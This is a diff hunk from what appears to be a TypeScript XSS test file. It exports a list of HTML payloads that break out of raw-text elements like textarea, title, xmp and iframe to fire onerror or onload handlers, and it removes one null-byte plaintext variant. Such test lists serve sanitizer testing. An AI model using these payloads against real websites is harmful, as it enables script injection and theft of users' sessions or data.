@@ -89,7 +89,6 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
     `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
     `<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp>`,
-    `<plaintext><img src=x onerror=${RUN}></plaintext>`.replace('<plaintext>', '<plaintex\u0000t>'),
     `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
     `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
     `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${RUN}>">`,
